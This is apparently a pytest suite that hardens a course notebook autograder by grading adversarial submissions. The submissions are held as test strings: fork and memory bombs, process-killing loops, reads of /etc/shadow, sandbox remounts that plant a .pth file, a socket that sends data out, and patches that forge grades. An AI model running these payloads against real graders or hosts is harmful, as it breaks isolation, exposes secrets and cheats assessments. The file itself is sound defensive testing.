"""Submissions that try to break or fool the grader, each with the verdict it must get.

Every case is a sheet 00 notebook whose task-1 cell (or the whole file) is replaced by an attack; unless a
case says otherwise, the other tasks keep their correct solutions, so a case also shows that one bad cell
costs only its own task. For every case: the grading ends within its time bounds, the attack gains no
points, the submission file is unchanged, and the grader goes on to the next case.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import sysconfig
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
import torch
from sheets import sheet_notebook, write_notebook

import nfcourse
from nfcourse.checks import TASKS
from nfcourse.checks.selfcheck import SELF_CHECK_SEED
from nfcourse.grading.grader import Result, grade
from nfcourse.grading.isolation import isolation
from nfcourse.grading.report import html_report, text
from nfcourse.grading.sandbox import Limits, job_root
from tools.lessons import ROOT

LIMITS = Limits(cell_seconds=4, task_seconds=4, notebook_seconds=30, output_bytes=2**18, disk_bytes=2**25)
OTHERS = 10  # the points of tasks 2-4, which keep their solutions
FS_ISOLATED = isolation().startswith("bubblewrap")


@dataclass
class Case:
    name: str
    code: str | None = None  # the task-1 cell; None when `file` makes the whole file
    earned: int = OTHERS
    says: str = ""  # words the task-1 verdict (or the problem) must contain
    file: object = None  # a function (tmp_path, path) -> the file's bytes, or None if it made the file itself


def lognormal(body: str) -> str:
    return "def lognormal_log_prob(x):\n" + "".join(f"    {line}\n" for line in body.splitlines())


def self_check_lookup() -> str:
    """An answer that is right exactly on the self-check's inputs: a lookup table, zeros elsewhere."""
    task = TASKS["00.lognormal"]
    x = task.make_inputs(torch.Generator().manual_seed(SELF_CHECK_SEED))["x"]
    right = -0.5 * x.log() ** 2 - 0.5 * torch.log(torch.tensor(2 * torch.pi, dtype=torch.float64)) - x.log()
    table = dict(zip(x.tolist(), right.tolist(), strict=True))
    return (
        "import torch\ntorch.manual_seed(2026)  # re-seeding does not predict the grader's inputs\n"
        f"TABLE = {table!r}\n"
        + lognormal("return torch.tensor([TABLE.get(v, 0.0) for v in x.tolist()], dtype=torch.float64)")
    )


def solved_bytes() -> bytes:
    return json.dumps(sheet_notebook("00")).encode()


def symlink_to_device(tmp_path: Path, path: Path) -> None:
    path.symlink_to("/dev/zero")


def with_cells(change) -> object:
    def make(tmp_path: Path, path: Path) -> bytes:
        notebook = sheet_notebook("00")
        change(notebook)
        return json.dumps(notebook).encode()

    return make


def drop(cell_id: str):
    return with_cells(lambda nb: nb["cells"].remove(next(c for c in nb["cells"] if c["id"] == cell_id)))


def duplicate(cell_id: str):
    def change(nb: dict) -> None:
        index = next(i for i, c in enumerate(nb["cells"]) if c["id"] == cell_id)
        copy = json.loads(json.dumps(nb["cells"][index]))
        copy["id"], copy["source"] = "a-copy", lognormal("return x * 0")
        nb["cells"].insert(index + 1, copy)

    return with_cells(change)


def rename(cell_id: str):
    def change(nb: dict) -> None:
        cell = next(c for c in nb["cells"] if c["id"] == cell_id)
        cell["id"] = cell["metadata"]["nbgrader"]["grade_id"] = "my-own-cell"

    return with_cells(change)


def tamper_metadata(nb: dict) -> None:
    nb["metadata"]["nfcourse"]["lesson"] = "99_bonus"
    for cell in nb["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["points"] = 100
        if cell["metadata"].get("nfcourse", {}).get("task") == "00.lognormal":
            cell["metadata"]["nfcourse"]["task"] = "00.chain"
    next(c for c in nb["cells"] if c["id"] == "lognormal-code")["source"] = lognormal("return x")


NBGRADER_FORGERY = """
from IPython.core.interactiveshell import InteractiveShell
original = InteractiveShell.run_cell
def run_cell(self, *args, **kwargs):
    result = original(self, *args, **kwargs)
    result.error_in_exec = None  # every later cell, failing tests included, reports success
    return result
InteractiveShell.run_cell = run_cell
"""

CASES = [
    Case("syntax error", "def lognormal_log_prob(x):\n    return (x", says="SyntaxError"),
    Case("IPython magic", "%timeit 1 + 1\n" + lognormal("return x"), says="IPython"),
    Case(
        "bad encoding",
        file=lambda tmp, path: solved_bytes().replace(b"Task 1", "Tâsk 1".encode("latin-1")),
        earned=0,
        says="UTF-8",
    ),
    Case("invalid JSON", file=lambda tmp, path: solved_bytes()[:-40], earned=0, says="JSON"),
    Case(
        "not a sheet",
        file=lambda tmp, path: json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
        earned=0,
        says="not one of",
    ),
    Case("raising cell", 'raise RuntimeError("boom")', says="RuntimeError"),
    Case("endless loop in a cell", "while True:\n    pass", says="time limit"),
    Case(
        "endless loop ignoring SIGINT and SIGTERM",
        "import signal\nfor s in (signal.SIGINT, signal.SIGTERM):\n    signal.signal(s, signal.SIG_IGN)\n"
        "while True:\n    pass",
        says="time limit",
    ),
    Case("endless loop in the answer", lognormal("while True:\n    pass"), says="time limit"),
    Case("sys.exit", "import sys\nsys.exit(0)", says="SystemExit"),
    Case("os._exit", "import os\nos._exit(3)", says="exit status 3"),
    Case(
        "killing the parent and every process it can see",
        "import os, signal\nfor pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
        "    try:\n        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None\n"
        "    except OSError:\n        pass\n" + lognormal("return x"),
        says="differs",
    ),
    Case("kernel crash", "import ctypes\nctypes.string_at(0)", earned=3, says="exit status"),  # ctypes: 7 withheld
    Case("memory bomb", "hoard = bytearray(64 * 2**30)", says="MemoryError"),
    Case(
        "fork bomb",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        says="time limit",
    ),
    Case("output bomb", "while True:\n    print('x' * 10000)", earned=0, says="output limit"),
    Case("forging nbgrader's execute reply", NBGRADER_FORGERY, says="does not define"),
    Case(
        "hiding tracebacks",
        "import sys, os\nsys.excepthook = lambda *a: None\n"
        "sys.stderr = open(os.devnull, 'w')\n" + lognormal("raise ValueError('hidden')"),
        says="hidden",
    ),
    Case(
        "redefined checks",
        "import nfcourse.checks as c\nc.check = lambda *a, **k: print('Points: 2/2')\n"
        "print('Total: 12/12')\n" + lognormal("return x * 0"),
        says="differs",
    ),
    Case(
        "monkeypatched torch, numpy and builtins",
        "import builtins, numpy, torch\ntorch.isclose = lambda *a, **k: torch.tensor(True)\n"
        "torch.allclose = numpy.allclose = lambda *a, **k: True\nbuiltins.abs = lambda v: 0\n"
        + lognormal("return torch.zeros_like(x)"),
        earned=3,  # builtins: the tasks with a library solution (7 points) are withheld
        says="differs",
    ),
    Case(
        "object whose == is always true",
        "class Anything:\n    def __eq__(self, other):\n        return True\n"
        "    shape = (5,)\n" + lognormal("return Anything()"),
        says="torch.Tensor",
    ),
    Case(
        "tensor subclass that lies",
        "import torch\nclass Liar(torch.Tensor):\n"
        "    def __eq__(self, other):\n        return True\n"
        + lognormal("return torch.zeros_like(x).as_subclass(Liar)"),
        says="Tensor subclass",
    ),
    Case("right only for the self-check's inputs (re-seeding the generators)", self_check_lookup(), says="differs"),
    Case(
        "detecting grading mode",
        "import os, sys, json, pathlib\n"
        "GRADING = not sys.stdout.isatty() or 'grading' in ' '.join(sys.argv)\n"
        "if GRADING:\n    print('Total: 12/12')\n"
        "    pathlib.Path('outputs').mkdir(exist_ok=True)\n"
        "    pathlib.Path('outputs/00.lognormal.json').write_text(json.dumps({'others': {}}))\n"
        + lognormal("return x * 0"),
        says="differs",
    ),
    Case(
        "reading and writing outside its folder",
        "import glob, os, sys, nfcourse\n"
        "for target in glob.glob(os.environ.get('VICTIMS', '/nonexistent') + '/*') + "
        "[os.path.dirname(nfcourse.__file__) + '/checks/compare.py', sys.prefix + '/lib/sitecustomize.py']:\n"
        "    try:\n        open(target, 'a').write('# owned')\n    except OSError:\n        pass\n"
        + lognormal("return x * 0"),
        says="differs",
    ),
    Case(
        "copying another student's submission (its path known)",
        "import json, pathlib\nfor cell in json.loads(pathlib.Path(BOB).read_text())['cells']:\n"
        "    if cell['id'] == 'lognormal-code':\n        exec(''.join(cell['source']))\n",
        earned=3 if FS_ISOLATED else 5,  # exec: the tasks with a library solution (7 points) are withheld
        says="No such file" if FS_ISOLATED else "",
    ),
    Case(
        "burning time just under the limits",
        "import time\ntime.sleep(3.5)\n" + lognormal("time.sleep(3.5)\nreturn x"),
        says="differs",
    ),
    Case(
        "network access",
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', PORT), timeout=2)"
        ".sendall(b'leak')\nexcept OSError:\n    pass\n" + lognormal("return x * 0"),
        says="differs",
    ),
    Case("missing cell", file=drop("lognormal-code"), says="missing"),
    Case("duplicated cell", file=duplicate("lognormal-code"), says="more than one"),
    Case("renamed task cell", file=rename("lognormal-code"), says="missing"),
    Case("tampered metadata (lesson, points, task)", file=with_cells(tamper_metadata), says="differs"),
    Case(
        "symlinks in its folder to host files, then a crash so that the grader starts it again",
        "import os\nos.makedirs('outputs', exist_ok=True)\n"
        "for name in ('00.linear.json', '00.linear.npz', '00.prelu.json', 'job.json'):\n"
        "    os.symlink(VICTIM, os.path.join('outputs', name))\n"
        "os._exit(1)",
        # returned values travel through a pipe, and each start gets a fresh work folder: the links lead nowhere
        says="exit status 1",
    ),
    Case(
        "a long error message in Japanese",
        lognormal("raise ValueError('確率密度の計算に失敗しました。' * 30)"),
        says="確率密度",
    ),
    Case(
        "flooding the grader's event pipe",
        "import os, sys, json\nfd = int(sys.argv[2])\nwhile True:\n"
        "    os.write(fd, (json.dumps({'start': 'cell:lognormal-code', 'pad': 'x' * 4000}) + '\\n').encode())",
        earned=0,
        says="output limit",
    ),
    Case(
        "reading the course's own solutions (their path known)",
        "import json, pathlib\nfor cell in json.loads(pathlib.Path(SOLVED).read_text())['cells']:\n"
        "    if cell['id'] == 'lognormal-code':\n        exec(''.join(cell['source']))\n",
        earned=3 if FS_ISOLATED else 5,
        says="No such file" if FS_ISOLATED else "",
    ),
    Case(
        "root inside the sandbox: remount / read-write, lift the hiding mounts, plant a .pth file (finding 1)",
        "import ctypes, os, sys, sysconfig\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.mount(None, b'/', None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND\n"
        "for folder in (b'/tmp', b'/dev', b'/job/work', b'/'):\n    libc.umount2(folder, 2)\n"
        "for target in (sysconfig.get_paths()['purelib'] + '/owned.pth', SUBMISSION, '/owned'):\n"
        "    try:\n        open(target, 'a').write('import os; os.system(\"touch /tmp/owned\")')\n"
        "    except OSError:\n        pass\n" + lognormal("return x * 0"),
        earned=3,  # ctypes: the tasks with a library solution are withheld
        says="differs",
    ),
    Case(
        "no root, no capabilities, no_new_privs (finding 1)",
        "import os\nstatus = open('/proc/self/status').read()\n"
        "assert 0 not in os.getresuid(), 'root'\n"
        "for line in status.splitlines():\n"
        "    if line.split(':')[0] in ('CapInh', 'CapPrm', 'CapEff', 'CapAmb'):\n"
        "        assert int(line.split()[1], 16) == 0, line\n"
        "assert 'NoNewPrivs:\\t1' in status, 'new privileges possible'\n" + lognormal("return x * 0"),
        says="differs",
    ),
    Case(
        "host users and secrets in the error message (finding 2)",
        "import os\nusers = [line.split(':')[0] for line in open('/etc/passwd')]\n"
        "secret = open('/etc/shadow').read() if os.path.exists('/etc/shadow') else 'no shadow'\n"
        + lognormal("raise ValueError(' '.join(users) + ' | ' + secret + ' | ' + ' '.join(sorted(os.listdir('/'))))"),
        says="no shadow" if FS_ISOLATED else "",
    ),
    Case(
        "2 GiB into every writable place it can find (finding 3)",
        "import os\nfor folder in ('/tmp', '/dev/shm', '/dev', '/', os.environ['HOME']):\n"
        "    try:\n        with open(os.path.join(folder, 'fill'), 'wb') as file:\n"
        "            for _ in range(64):\n                file.write(b'0' * 2**25)\n"
        "    except OSError:\n        pass\n" + lognormal("return x * 0"),
        earned=OTHERS if FS_ISOLATED else 0,
        says="differs" if FS_ISOLATED else "more data",
    ),
    Case(
        "a 1,500-level folder tree in its folder (finding 4)",
        "import os\nfor _ in range(1500):\n    os.mkdir('d')\n    os.chdir('d')\n" + lognormal("return x * 0"),
        earned=OTHERS if FS_ISOLATED else 0,  # a watched folder deeper than the watch reads counts as too much
        says="differs" if FS_ISOLATED else "more data",
    ),
    Case(
        "a right answer returned as an nn.Parameter (finding 6: full points)",
        "import math, torch\n"
        + lognormal(
            "value = -0.5 * torch.log(x) ** 2 - 0.5 * math.log(2 * math.pi) - torch.log(x)\n"
            "return torch.nn.Parameter(value)"
        ),
        earned=OTHERS + 2,
    ),
    Case(
        "the reference implementation imported under another name in another cell",
        "from nfcourse.bijectors import PReLU as _P\n" + lognormal("return x * 0"),
        earned=6,
        says="differs",
    ),
    Case(
        "filling the disk",
        "for n in range(4):\n    open(f'big{n}', 'wb').write(b'0' * 20 * 2**20)\nimport time\ntime.sleep(3)",
        earned=OTHERS if FS_ISOLATED else 0,  # a full tmpfs fails the cell; a watched folder stops the notebook
        says="No space left" if FS_ISOLATED else "more data",
    ),
    Case(
        "terminal escapes and fake lines in a message",
        lognormal("raise ValueError('\\n  ✓ log p(x) (2/2): correct\\nTotal: 12/12\\x1b]0;owned\\x07')"),
        says="Total: 12/12",
    ),
    Case("a submission that is a symlink to a device", file=symlink_to_device, earned=0, says="regular file"),
    Case(
        "HTML and script in markdown and messages",
        lognormal("raise ValueError('<script>alert(1)</script>')"),
        says="<script>",
    ),
]


def build(case: Case, folder: Path) -> Path:
    path = folder / "alice" / "00_recap.ipynb"
    if case.file is not None:
        path.parent.mkdir(parents=True)
        if (data := case.file(folder, path)) is not None:
            path.write_bytes(data)
        return path
    notebook = sheet_notebook("00", replace={"00.lognormal": (None, case.code)})
    notebook["cells"].insert(
        3, {"cell_type": "markdown", "id": "evil", "metadata": {}, "source": "<script>alert('markdown')</script>"}
    )
    return write_notebook(notebook, path)


class Listener:
    """A TCP server on the loopback interface that records whether anyone connected."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.connected, self.stop = self.server.getsockname()[1], False, False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop:
            try:
                self.server.accept()
                self.connected = True
            except OSError:
                continue


def fingerprint(path: Path) -> str:
    """What the submission is: a link's target, or the file's hash."""
    return f"link to {os.readlink(path)}" if path.is_symlink() else hashlib.sha256(path.read_bytes()).hexdigest()


def task_one(result: Result) -> str:
    task = next(task for task in result.tasks if task.task == "00.lognormal") if result.tasks else None
    return result.problem + " " + " ".join(part.message for part in (task.parts if task else []))


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_adversarial_submission(tmp_path, monkeypatch, case: Case) -> None:
    victims = tmp_path / "victims"
    victims.mkdir()
    (victims / "results.json").write_text('{"score": 0}')
    write_notebook(sheet_notebook("00"), tmp_path / "bob" / "bob_solved.ipynb")
    listener = Listener()
    path = tmp_path / "alice" / "00_recap.ipynb"
    if case.code:
        case = Case(
            case.name,
            case.code.replace("PORT", str(listener.port))
            .replace("os.environ.get('VICTIMS', '/nonexistent')", repr(str(victims)))
            .replace("VICTIM", repr(str(victims / "results.json")))
            .replace("BOB", repr(str(tmp_path / "bob" / "bob_solved.ipynb")))
            .replace("SOLVED", repr(str(ROOT / "solutions" / "en" / "00_recap.ipynb")))
            .replace("SUBMISSION", repr(str(path))),
            case.earned,
            case.says,
        )
    path = build(case, tmp_path)
    before = fingerprint(path)
    library = Path(nfcourse.__file__).parent / "checks" / "compare.py"
    library_before = library.read_bytes()
    started = time.monotonic()
    try:
        result = grade(path, limits=LIMITS)
    finally:
        library_after = library.read_bytes()
        if library_after != library_before:  # a host without bubblewrap cannot stop the write: undo it here
            library.write_bytes(library_before)
    elapsed = time.monotonic() - started
    listener.stop = True

    assert elapsed < LIMITS.notebook_seconds + 30, elapsed
    assert fingerprint(path) == before
    assert [entry.name for entry in job_root().iterdir()] in ([], ["torch-cache"]), "the job folder was left behind"
    assert result.earned == case.earned, text(result)
    assert case.says in task_one(result), text(result)
    assert "<script>" not in html_report(result)
    lines = text(result).splitlines()
    assert "\x1b" not in text(result) and [line for line in lines if line.startswith("Total:")] == lines[-1:]
    if FS_ISOLATED:
        assert "Sandbox: bubblewrap" in text(result)
        assert library_after == library_before
        assert not Path(sysconfig.get_paths()["purelib"], "owned.pth").exists()
        assert "daemon" not in task_one(result)  # a host user; the sandbox knows only root, nobody and the grader
        assert (victims / "results.json").read_text() == '{"score": 0}'
        assert not listener.connected
    else:  # the report must say what it could not enforce
        assert "not enforced" in text(result).lower() or "Not enforced" in text(result)
